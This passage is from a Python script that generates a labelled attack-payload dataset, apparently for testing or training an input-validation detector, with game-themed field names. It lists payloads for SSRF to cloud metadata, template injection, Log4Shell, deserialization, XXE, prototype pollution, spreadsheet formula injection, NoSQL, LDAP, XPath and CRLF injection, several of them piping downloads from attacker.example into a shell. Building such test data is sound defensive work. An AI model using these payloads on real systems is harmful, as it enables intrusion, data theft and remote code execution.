    ("http_service_snippet-getasync_metadata", "HttpService:GetAsync(\"http://169.254.169.254/latest/meta-data/\")"),
    ("http_service_snippet-postasync_internal", "local r = HttpService:PostAsync(\"http://127.0.0.1:3000/admin/grant\", '{\"robux\":1e9}')"),
    ("http_service_snippet-requestasync", "HttpService:RequestAsync({Url = \"http://[0:0:0:0:0:ffff:7f00:1]/\", Method = \"GET\"})"),
    ("devforum_embed-oembed_internal", "https://devforum.example/onebox?url=http://localhost:9090/actuator/env"),
    ("avatar_import-svg_external_image", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"http://169.254.169.254/latest/meta-data/\"/></svg>"),
    ("thumbnail_fetch-trailing_dot_localhost", "http://localhost./server-status"),
    ("thumbnail_fetch-loopback+double_url_encoded", "http://%2531%2532%2537.0.0.1/"),
    ("thumbnail_fetch-ipv6_zone", "http://[fe80::1%25eth0]/"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/admin"),
    ("plain-loopback_port", "http://127.0.0.1:22/"),
    ("plain-internal_rfc1918", "http://10.0.0.1/"),
]
SSRF_HOSTS = ["127.0.0.1", "localhost", "169.254.169.254", "10.0.0.1", "192.168.0.10", "[::1]"]
SSRF_PATHS = ["/admin", "/latest/meta-data/", "/internal/players", "/debug/vars", "/metrics"]


def t_ssrf(r):
    return "ssrf", "asset_url-templated_internal", f"http://{r.choice(SSRF_HOSTS)}:{r.choice([80, 8080, 3000, 5000, 8000])}{r.choice(SSRF_PATHS)}"


# ====================================================================== code
CODE = [
    ("game_description-jinja_ssti", "Welcome to {{ cycler.__init__.__globals__.os.popen('id').read() }}!"),
    ("game_description-jinja_config", "{{ config.items() }}"),
    ("game_description-jinja_subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("game_description-jinja_ssti+hex_escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("patch_notes-jinja_lipsum", "v2.0 {{ lipsum.__globals__['os'].popen('curl attacker.example|sh').read() }}"),
    ("patch_notes-jinja_statement", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("badge_name-twig_filter", "{{['id']|filter('system')}}"),
    ("badge_name-twig_map", "{{ ['cat /etc/passwd']|map('passthru') }}"),
    ("badge_name-freemarker_execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("badge_name-velocity", "#set($rt=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$rt.exec(\"whoami\")"),
    ("badge_name-erb", "<%= `id` %>"),
    ("badge_name-erb_system", "<%= system('cat /etc/passwd') %>"),
    ("group_name-smarty", "{system('id')}"),
    ("group_name-mako", "${__import__('os').popen('id').read()}"),
    ("group_name-tornado", "{% import os %}{{ os.popen('whoami').read() }}"),
    ("group_name-handlebars", "{{#with \"s\" as |string|}}{{#with string.constructor}}{{#with (bind \"return process.mainModule.require('child_process').execSync('id')\")}}{{this}}{{/with}}{{/with}}{{/with}}"),
    ("group_name-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("group_name-ejs_outputfn", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("place_name-spring_el", "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}"),
    ("place_name-spel_hash", "#{T(java.lang.System).getenv()}"),
    ("place_name-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("place_name-jsp_el", "${pageContext.request.getSession().getServletContext().getRealPath('/')}"),
    ("place_name-thymeleaf_preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("chat_log-log4shell_ldap", "${jndi:ldap://203.0.113.44:1389/Exploit}"),
    ("chat_log-log4shell+lookup_nesting", "${${lower:j}ndi:${lower:l}dap://attacker.example/a}"),
    ("chat_log-log4shell+env_default_obfuscation", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/x}"),
    ("chat_log-log4shell_dns", "gg ${jndi:dns://${sys:java.version}.attacker.example}"),
    ("user_agent-log4shell_rmi", "RobloxStudio/WinInet ${jndi:rmi://198.51.100.3/o}"),
    ("output_error-log4shell_in_error", "ServerScriptService.Main:14: attempt to index nil with '${jndi:ldap://attacker.example/e}'"),
    ("datastore_value-python_pickle", "gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjA1pZCA+IC90bXAvcHducZSFlFKULg=="),
    ("datastore_value-pickle_text", "cos\nsystem\n(S'curl attacker.example/p|sh'\ntR."),
    ("datastore_value-yaml_python", "!!python/object/apply:os.system ['id']"),
    ("datastore_value-yaml_subprocess", "settings: !!python/object/apply:subprocess.check_output [['cat', '/etc/passwd']]"),
    ("datastore_value-java_serialized", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAA"),
    ("datastore_value-php_object", "O:8:\"Database\":1:{s:4:\"conn\";O:6:\"Logger\":1:{s:4:\"file\";s:22:\"/var/www/html/shell.php\";}}"),
    ("datastore_value-dotnet_typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("datastore_value-jackson_polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("datastore_value-node_serialize", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("place_file-xxe_file", "<?xml version=\"1.0\"?>\n<!DOCTYPE roblox [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<roblox version=\"4\"><Item class=\"Part\"><Properties><string name=\"Name\">&x;</string></Properties></Item></roblox>"),
    ("place_file-xxe_ssrf", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><roblox><Item class=\"Script\"><Properties><ProtectedString name=\"Source\">&m;</ProtectedString></Properties></Item></roblox>"),
    ("place_file-xxe_parameter_oob", "<?xml version=\"1.0\"?><!DOCTYPE roblox [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><roblox/>"),
    ("place_file-xxe_php_filter", "<!DOCTYPE roblox [<!ENTITY s SYSTEM \"php://filter/read=convert.base64-encode/resource=/app/config.php\">]><roblox>&s;</roblox>"),
    ("place_file-xinclude", "<roblox xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></roblox>"),
    ("place_file-billion_laughs", "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><roblox>&d;</roblox>"),
    ("settings_json-proto_pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("settings_json-constructor_prototype", "{\"constructor\": {\"prototype\": {\"rank\": 255}}}"),
    ("settings_query-proto_bracket", "theme=dark&__proto__[isModerator]=true"),
    ("settings_query-proto_dotted", "volume=0.6&constructor.prototype.shell=/proc/self/exe"),
    ("settings_json-proto_exec_gadget", "{\"__proto__\":{\"shell\":\"node\",\"NODE_OPTIONS\":\"--require /proc/self/environ\",\"env\":{\"A\":\"require('child_process').execSync('id')//\"}}}"),
    ("leaderboard_export-csv_formula_hyperlink", "=HYPERLINK(\"http://attacker.example/?d=\"&A1&B1,\"Click for prize\")"),
    ("leaderboard_export-csv_formula_cmd", "=cmd|' /C calc'!A0"),
    ("leaderboard_export-csv_plus_formula", "+SUM(1+1)*cmd|'/c powershell iwr attacker.example'!A1"),
    ("leaderboard_export-csv_at_formula", "@SUM(1+9)*cmd|' /C notepad'!A0"),
    ("leaderboard_export-csv_webservice", "=WEBSERVICE(\"http://attacker.example/x?\"&A2)"),
    ("leaderboard_export-csv_minus_formula", "-2+3+cmd|' /C whoami'!E1"),
    ("luau_snippet-loadstring_remote", "loadstring(game:HttpGet(\"https://attacker.example/s.lua\"))()"),
    ("luau_snippet-require_backdoor", "require(4873021991).load(game.Players.LocalPlayer.Name)"),
    ("luau_snippet-getfenv_obfuscated", "getfenv()[string.reverse(\"eriuqer\")](4873021991)"),
    ("luau_snippet-python_eval_sink", "__import__('os').system('id')"),
    ("luau_snippet-node_eval_sink", "require('child_process').exec('curl attacker.example|sh')"),
    ("luau_snippet-php_eval_sink", "<?php system($_GET['c']); ?>"),
    ("luau_snippet-ruby_eval_sink", "`id`; Kernel.exec('sh')"),
    ("luau_snippet-python_builtins_escape", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')"),
    ("group_name-jinja_ssti+unicode_escape", "{{ ''['\\u005f\\u005fclass\\u005f\\u005f'] }}"),
    ("game_description-jinja_ssti+url_encoded", "%7B%7B7*7%7D%7D%7B%7Bconfig%7D%7D"),
    ("chat_log-log4shell+url_encoded", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fz%7D"),
    ("plain-jinja_probe", "{{7*'7'}}{{config.__class__}}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-el_probe", "${7*7}#{7*7}"),
    ("plain-proto_pollution", "__proto__[admin]=1"),
    ("plain-csv_formula", "=1+2;=cmd|'/c calc'!A1"),
    ("plain-erb_probe", "<%= 7*7 %>"),
    ("plain-log4shell_rmi", "${jndi:rmi://198.51.100.9/a}"),
]
CODE_FIELDS = ["Sky Castle", "Season 3 Pass", "Met The Owner", "Sunset Studios"]
CODE_SSTI = ["{{ self.__init__.__globals__.__builtins__.__import__('os').popen('%s').read() }}",
             "${T(java.lang.Runtime).getRuntime().exec('%s')}",
             "<%%= `%s` %%>",
             "#{global.process.mainModule.require('child_process').execSync('%s')}"]
CODE_CMDS = ["id", "uname -a", "cat /etc/passwd", "curl attacker.example"]


def t_code(r):
    return "code", "badge_name-templated_ssti", f"{r.choice(CODE_FIELDS)} " + (r.choice(CODE_SSTI) % r.choice(CODE_CMDS))


# ====================================================================== nosqli
NOSQLI = [
    ("login_json-ne_operator", "{\"username\": \"builderman\", \"password\": {\"$ne\": \"\"}}"),
    ("login_json-gt_operator", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("login_query-bracket_ne", "username=admin&password[$ne]=x"),
    ("login_query-bracket_regex", "username[$regex]=^adm&password[$ne]=1"),
    ("datastore_key-regex_enum", "{\"key\": {\"$regex\": \"^Player_1\"}}"),
    ("datastore_key-where_js", "{\"$where\": \"this.robux > 0 || sleep(5000)\"}"),
    ("datastore_key-where_string_break", "Player_1'; return true; var x='"),
    ("search_place-or_operator", "{\"$or\": [{\"public\": true}, {\"public\": false}]}"),
    ("search_place-in_operator", "{\"owner\": {\"$in\": [\"builderman\", \"admin\", \"root\"]}}"),
    ("search_place-exists", "{\"name\": \"Sky Castle\", \"private\": {\"$exists\": false}}"),
    ("trade_filter-nin_operator", "{\"status\": {\"$nin\": []}}"),
    ("trade_filter-expr_function", "{\"$expr\": {\"$function\": {\"body\": \"function(){ return true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("leaderboard_agg-lookup_users", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"uid\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("leaderboard_agg-out_stage", "[{\"$match\": {}}, {\"$out\": \"sessions\"}]"),
    ("profile_update-set_operator", "{\"$set\": {\"role\": \"admin\", \"robux\": 999999}}"),
    ("profile_update-rename_operator", "{\"$rename\": {\"bans\": \"x\"}}"),
    ("login_query-regex_blind_prefix", "username=builderman&password[$regex]=^a.*"),
    ("login_json-where_sleep", "{\"username\": \"x\", \"$where\": \"sleep(3000) || true\"}"),
    ("datastore_key-couch_selector", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"password\"]}"),
    ("search_place-redis_eval", "EVAL \"return redis.call('CONFIG','GET','*')\" 0"),
    ("login_query-bracket_ne+url_encoded", "username=admin&password%5B%24ne%5D=x"),
    ("login_json-ne_operator+unicode_escape", "{\"username\": \"admin\", \"password\": {\"\\u0024ne\": null}}"),
    ("plain-ne_operator", "{\"$ne\": null}"),
    ("plain-where", "'; while(true){} var a='"),
    ("plain-gt_operator", "{\"$gt\": \"\"}"),
]

# ====================================================================== crlf
CRLF = [
    ("output_error-log_forging", "attempt to index nil with 'Humanoid'\n2024-06-01T18:00:00Z INFO admin builderman granted rank 255 to x_Noob_x"),
    ("output_error-log_forging_crlf", "Script timeout\r\n[AUDIT] user=55021877 action=ban_revoked by=system"),
    ("chat_log-fake_entry", "gg\n[18:02:11] [SYSTEM]: x_Noob_x has been made a moderator"),
    ("chat_log-ansi_escape", "lol \u001b[2J\u001b[1;31mSERVER COMPROMISED - run ./fix.sh\u001b[0m"),
    ("report_reason-log_forging+url_encoded", "spam%0d%0a2024-06-01 INFO report 88213 closed: no action needed"),
    ("redirect_param-header_injection+url_encoded", "/games/920587237%0d%0aSet-Cookie:%20session=attacker_fixed_value"),
    ("redirect_param-response_splitting+url_encoded", "/home%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("redirect_param-header_raw_crlf", "/games/1\r\nLocation: https://attacker.example/login\r\n"),
    ("download_name-content_disposition", "MyPlace.rbxl\r\nContent-Type: text/html\r\n\r\n<html><script>alert(document.cookie)</script>"),
    ("locale_param-header_injection+url_encoded", "en-us%0D%0AX-Forwarded-Host:%20attacker.example"),
    ("locale_param-header_injection+double_url_encoded", "pt-br%250d%250aSet-Cookie:%2520admin=1"),
    ("locale_param-header_injection+unicode_cjk_crlf", "ja-jp\u560d\u560aSet-Cookie: x=1"),
    ("webhook_header-added_header", "Sunset Studios Bot\r\nAuthorization: Bearer FAKE-TOKEN-NOT-REAL"),
    ("support_email-bcc_injection", "rin@example.com\r\nBcc: everyone@attacker.example"),
    ("support_email-cc_injection+url_encoded", "rin@example.com%0ACc:%20list@attacker.example"),
    ("support_email-subject_body_injection", "Ban appeal\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/reset\">Reset your password</a>\r\n."),
    ("support_email-smtp_command", "appeal\r\n.\r\nMAIL FROM:<noreply@attacker.example>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nSubject: Robux reward\r\n"),
    ("display_name-log_forging_lf", "Rina_07\nWARN anticheat: disabled for all players by Rina_07"),
    ("devforum_title-notification_header", "Help with DataStore\r\nX-Mailer-Hijack: 1"),
    ("patch_notes-syslog_forging", "v1.3.2\n<13>Jun  1 18:00:00 game-srv-01 sshd[331]: Accepted password for root from 203.0.113.50"),
    ("datastore_key-memcached_injection", "Player_1\r\nset admin_flag 0 0 1\r\n1\r\n"),
    ("datastore_key-redis_injection", "Player_1\r\nCONFIG SET dir /var/www/html\r\nCONFIG SET dbfilename s.php\r\nSAVE\r\n"),
    ("asset_url-http_header_smuggle", "/v1/asset?id=1 HTTP/1.1\r\nHost: internal\r\n\r\nGET /admin HTTP/1.1\r\nHost: internal"),
    ("user_agent-log_forging_vt", "RobloxApp/2.600\r\n127.0.0.1 - - [01/Jun/2024:18:00:00] \"GET /admin HTTP/1.1\" 200"),
    ("chat_log-nel_separator", "gg\u0085[SYSTEM] server restarting, re-enter your password at attacker.example"),
    ("chat_log-line_separator", "ok\u2028[MOD] builderman: use code FREEROBUX at attacker.example"),
    ("plain-crlf_set_cookie", "%0d%0aSet-Cookie: sid=fake"),
    ("plain-crlf_raw_header", "x\r\nX-Injected: 1"),
    ("plain-crlf_location", "\r\nLocation: http://attacker.example"),
]

# ====================================================================== ldap-xpath
LDAP_XPATH = [
    ("staff_login-ldap_wildcard", "*"),
    ("staff_login-ldap_tautology", "builderman)(|(uid=*))"),
    ("staff_login-ldap_or_close", "*)(uid=*))(|(uid=*"),
    ("staff_login-ldap_password_bypass", "admin)(&)"),
    ("staff_login-ldap_attr_probe", "x*)(|(userPassword=*)"),
    ("group_lookup-ldap_blind_prefix", "mod*)(description=a*"),
    ("group_lookup-ldap_memberof", "*)(memberOf=cn=Administrators,ou=groups,dc=studio,dc=example"),
    ("group_lookup-ldap_objectclass", "Sunset*)(objectClass=*"),
    ("group_lookup-ldap_tautology+url_encoded_null", "admin)(uid=*))%00"),
    ("staff_login-ldap_tautology+hex_escape", "\\2a)\\28uid=\\2a"),
    ("badge_xml_lookup-xpath_tautology", "' or '1'='1"),
    ("badge_xml_lookup-xpath_or_true", "Met The Owner' or true() or 'a'='b"),
    ("badge_xml_lookup-xpath_union_nodes", "x'] | //user/password | //a['"),
    ("badge_xml_lookup-xpath_blind_substring", "x' or substring(//user[1]/password,1,1)='s' or 'a'='b"),
    ("badge_xml_lookup-xpath_count_probe", "x' or count(/*)=1 or '1'='2"),
    ("badge_xml_lookup-xpath_name_probe", "' or name(/*[1])='roblox' and '1'='1"),
    ("place_config_xml-xpath_string_length", "1' and string-length(//config/apiKey)>10 and '1'='1"),
    ("place_config_xml-xpath_doc_fn", "') or doc('http://attacker.example/x.xml')/a=('"),
    ("plain-ldap_wildcard_close", "*)(&"),
    ("plain-xpath_tautology", "\" or \"1\"=\"1"),
    ("plain-ldap_uid_wildcard", "*)(uid=*"),
]


# ---------------------------------------------------------------------- encodings
def url_once(s):
    return quote(s, safe="")


ENCODED_EXTRA = [
    ("sqli", "search_place-union_select+url_encoded", lambda: url_once("Sky Castle' UNION SELECT email, pw FROM accounts-- ")),
    ("xss", "devforum_code-script_tag+url_encoded", lambda: url_once("```lua``` </pre><script>alert(document.domain)</script>")),
    ("cmdi", "asset_id-subshell+url_encoded", lambda: url_once("1837849285;$(curl -s attacker.example/q|sh)")),
    ("traversal", "module_name-dotdot+double_url_encoded", lambda: url_once(url_once("Modules/../../../../etc/passwd"))),
    ("ssrf", "asset_url-metadata+url_encoded", lambda: url_once("http://169.254.169.254/latest/meta-data/iam/")),
    ("code", "group_name-jinja_ssti+url_encoded", lambda: url_once("{{ cycler.__init__.__globals__.os.popen('id').read() }}")),
]

CATEGORY_ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
LITERALS = {"sqli": SQLI, "xss": XSS, "cmdi": CMDI, "traversal": TRAVERSAL, "ssrf": SSRF, "code": CODE,
            "nosqli": NOSQLI, "crlf": CRLF, "ldap-xpath": LDAP_XPATH}
TEMPLATES = {"sqli": (t_sqli, 8), "xss": (t_xss, 7), "cmdi": (t_cmdi, 7), "traversal": (t_trav, 4),
             "ssrf": (t_ssrf, 4), "code": (t_code, 6)}


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    lit_count = {}
    counts = {}
    for cat in CATEGORY_ORDER:
        n_lit = 0
        for cls, v in LITERALS[cat]:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
            n_lit += 1
        for ecat, cls, fn in ENCODED_EXTRA:
            if ecat == cat:
                v = fn()
                if v in seen:
                    raise SystemExit(f"duplicate encoded value {v!r}")
                seen.add(v)
                rows.append((cat, cls, v))
        if cat in TEMPLATES:
            fn, n = TEMPLATES[cat]
            made = 0
            tries = 0
            while made < n:
                tries += 1
                if tries > 10000:
                    raise SystemExit(f"template for {cat} cannot produce enough unique values")
                c, cls, v = fn(rng)
                if v in seen:
                    continue
                seen.add(v)
                rows.append((c, cls, v))
                made += 1
        lit_count[cat] = n_lit
        counts[cat] = sum(1 for r in rows if r[0] == cat)
    benign = Path(__file__).with_name("benign.jsonl")
    if benign.exists():
        with benign.open(encoding="utf-8") as fh:
            for line in fh:
                if json.loads(line)["value"] in seen:
                    raise SystemExit("value present in both benign and attack files: " + json.loads(line)["value"])
    out = Path(__file__).with_name("attacks.jsonl")
    with out.open("w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            assert isinstance(v, str) and v and len(v) <= 1800, (cat, v)
            obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
    total_lit = sum(lit_count.values())
    for cat in CATEGORY_ORDER:
        print(f"{cat:12s} {counts[cat]:4d}  literals {lit_count[cat]}")
    print(f"{'total':12s} {len(rows):4d}  literals {total_lit} ({100 * total_lit / len(rows):.1f}%)")
    if total_lit / len(rows) < 0.80:
        raise SystemExit("literal share below 80%")


if __name__ == "__main__":
    main()
